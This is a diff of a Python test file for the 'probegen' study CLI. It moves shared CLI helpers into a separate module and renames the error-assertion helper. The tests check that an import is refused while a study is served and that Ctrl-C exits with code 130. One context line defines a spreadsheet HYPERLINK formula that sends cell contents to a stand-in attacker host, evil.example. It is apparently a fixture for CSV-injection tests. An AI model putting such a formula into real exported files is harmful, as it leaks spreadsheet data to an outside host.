@@ -20,28 +20,15 @@ from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
-from click.testing import CliRunner
 
-from cli import cli
 from probegen.study.design import StudyConfig, build_study, write_study
 from probegen.study.store import AnswerLog, load_study, read_answers
+from cli_checks import assert_one_line_error, run
 
 HERE = Path(__file__).resolve().parent
 ROOT = HERE.parent
 CODA_JSON = HERE / "data" / "coda21_three_groups.json"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"x")'
-
-
-def run(*args):
-    r = CliRunner().invoke(cli, [str(a) for a in args])
-    return r.exit_code, r.stdout, r.stderr
-
-
-def one_line_error(code: int, err: str, *needles: str, status: int = 1) -> None:
-    lines = [ln for ln in err.strip().splitlines() if ln.strip()]
-    assert code == status and len(lines) == 1 and lines[0].startswith("probegen: error:"), (code, err)
-    for n in needles:
-        assert n in lines[0], lines[0]
 
 
 def make(out: Path, **kw) -> Path:
@@ -126,17 +113,17 @@ def test_import_is_refused_while_the_study_is_served_and_no_acknowledged_answer_
     csv_file.write_text("annotator,item,answer\nfull-1,%s,\"%s\"\n" % (uid, ",".join("ABCDEFGHIJ"[i] for i in imported)))
     with serving(s, tmp_path) as srv:
         code, out, err = run("study", "import", s, csv_file)
-        one_line_error(code, err, f"study {s} is being served (pid {srv.proc.pid})", "stop the server first")
+        assert_one_line_error(code, err, f"study {s} is being served (pid {srv.proc.pid})", "stop the server first")
         assert not read_answers(s / "answers" / "full-1.jsonl")  # nothing was imported
         tok = tokens_of(s)["full-1"]
         status, _, body = srv.post(f"/api/{tok}/answer", json.dumps({"item": uid, "answer": served}).encode())
         assert status == 200 and json.loads(body)["stored"] is True
         # a second server on the same study is refused too (two writers would each trust their own memory)
-        one_line_error(*run("study", "serve", s, "--port", free_port())[::2], "is being served", f"pid {srv.proc.pid}")
+        assert_one_line_error(*run("study", "serve", s, "--port", free_port())[::2], "is being served", f"pid {srv.proc.pid}")
         srv.stop(signal.SIGKILL)  # even a killed server frees the study (the OS drops the lock)
     # the acknowledged answer is what export, score and a restart see; the import now refuses it as a conflict
     code, _, err = run("study", "import", s, csv_file)
-    one_line_error(code, err, "already answered", "first answer is final")
+    assert_one_line_error(code, err, "already answered", "first answer is final")
     assert run("study", "export", s, "--out", tmp_path / "out.csv")[0] == 0
     rows = list(csv.DictReader(open(tmp_path / "out.csv", newline="")))
     assert next(r["answer"] for r in rows if (r["annotator"], r["item"]) == ("full-1", uid)) == ",".join("ABCDEFGHIJ"[i] for i in served)
@@ -243,7 +230,7 @@ def test_ctrl_c_stops_the_server_with_130_and_one_line(tmp_path):
         code = srv.stop(signal.SIGINT)
     err = srv.err.read_text()
     assert code == 130, (code, err)
-    one_line_error(code, err, "interrupted", status=130)
+    assert_one_line_error(code, err, "interrupted", status=130)
     # the study is free again: an import is no longer refused
     (tmp_path / "empty.csv").write_text("annotator,item,answer\n")
     assert run("study", "import", s, tmp_path / "empty.csv")[0] == 0
